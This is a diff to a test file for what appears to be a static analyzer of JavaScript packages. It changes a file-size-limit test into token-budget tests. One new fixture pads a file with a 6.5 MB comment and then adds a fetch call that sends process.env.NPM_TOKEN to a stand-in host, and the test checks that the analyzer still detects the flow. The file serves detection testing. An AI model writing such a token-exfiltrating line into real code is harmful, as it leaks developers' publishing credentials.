@@ -29,10 +29,16 @@ describe("parsing", () => {
     expect(facts.filesAnalyzed).toBe(1);
   });
 
-  it("a file over the size limit is reported, not parsed", async () => {
-    const facts = await analyze({ "index.js": "", "big.js": "//" + "x".repeat(6.5 * 1024 * 1024) });
-    expect(facts.parseProblems).toHaveLength(1);
-    expect(facts.parseProblems[0]!.message).toMatch(/over the 6 MB limit/);
+  it("a big file is parsed by its tokens, not refused by its size: a 6.5 MB comment costs nothing", async () => {
+    const facts = await analyze({ "index.js": "//" + "x".repeat(6.5 * 1024 * 1024) + "\nfetch('https://x.example.invalid', { body: process.env.NPM_TOKEN });" });
+    expect(facts.parseProblems).toEqual([]);
+    expect(facts.flows).toHaveLength(1);
+  });
+
+  it("a file over the token budget is reported, not parsed", () => {
+    const parsed = parseJs("big.js", "var a = [" + "1,".repeat(100) + "];", 50);
+    expect(parsed.ast).toBeUndefined();
+    expect(parsed.problem).toMatch(/analysis budget exceeded \(more than 50 syntax tokens/);
   });
 
   it("survives deeply nested and very long code", async () => {
